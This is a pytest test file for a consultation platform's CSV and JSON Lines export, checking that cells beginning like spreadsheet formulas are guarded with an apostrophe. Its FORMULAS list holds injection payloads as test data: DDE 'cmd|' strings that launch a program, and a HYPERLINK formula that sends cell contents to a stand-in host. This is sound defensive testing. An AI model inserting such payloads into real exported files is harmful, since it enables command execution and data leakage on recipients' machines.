"""Values in CSV and in JSON Lines."""

import csv
import io
import json
from datetime import date
from pathlib import Path
from uuid import UUID

import pytest

from consultation.opendata.export.cells import compact, csv_cell, csv_writer, guarded, json_writer
from tests.opendata.export_files import without_apostrophe

REAL = Path(__file__).parents[3] / "shared" / "republique-numerique" / "opinions.jsonl"
DANGEROUS = "=+-@\t\r\n＝＋－＠﹢﹣﹦﹫"
FORMULAS = [
    *(f"{sign}SUM(A1:A9)" for sign in DANGEROUS),
    *DANGEROUS,
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"ici")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    '=1+1";=1+1',
    "=1,2\r\n=3",
]
HARMLESS = [
    "",
    "Article 1er",
    "1+1=2",
    "«=»",
    " =1",
    "−2 %",
    "d’accord",
    "\u202e=1",
    "A\n=1",
    "a\u2028b\u2029c\x85d\x0be\x1cf",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_like_a_formula_in_csv_and_none_is_lost(text):
    assert guarded(text) == "'" + text
    assert without_apostrophe(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_alone(text):
    assert guarded(text) == text


@pytest.mark.parametrize("text", FORMULAS + HARMLESS)
def test_json_lines_hold_every_text_as_it_is(text):
    file = io.StringIO()
    json_writer(file, ["body"])([text])
    assert json.loads(file.getvalue()) == {"body": text}
    assert len(file.getvalue().splitlines()) == 1


@pytest.mark.parametrize("text", FORMULAS + HARMLESS)
def test_csv_is_read_back_to_the_letter(text):
    file = io.StringIO(newline="")
    csv_writer(file, ["before", "body", "after"])([1, text, "fin"])
    file.seek(0)
    assert list(csv.reader(file)) == [["before", "body", "after"], ["1", guarded(text), "fin"]]


def test_real_texts_that_begin_like_formulas_are_guarded():
    with REAL.open(encoding="utf-8") as file:
        opinions = [json.loads(line) for line in file]
    texts = [argument["body"] for opinion in opinions for argument in opinion["arguments"]]
    guardable = [text for text in texts if text[:1] in tuple("=+-@\t\r")]
    assert len(guardable) > 100
    assert all(csv_cell(text).startswith("'") for text in guardable)
    assert [without_apostrophe(csv_cell(text)) for text in texts] == texts


@pytest.mark.parametrize(
    ("value", "cell", "line"),
    [
        (None, "", "null"),
        (0, "0", "0"),
        (date(2026, 3, 1), "2026-03-01", '"2026-03-01"'),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001", '"00000000-0000-0000-0000-000000000001"'),
        ([{"old": "é"}], '[{"old":"é"}]', '[{"old":"é"}]'),
    ],
)
def test_values_have_one_spelling(value, cell, line):
    assert csv_cell(value) == cell
    assert compact(value) == line


def test_lines_of_csv_end_with_cr_lf():
    file = io.StringIO(newline="")
    csv_writer(file, ["a"])(["x"])
    assert file.getvalue() == "a\r\nx\r\n"


def test_what_has_no_spelling_is_refused():
    with pytest.raises(TypeError, match="set is not exported"):
        csv_cell({1})
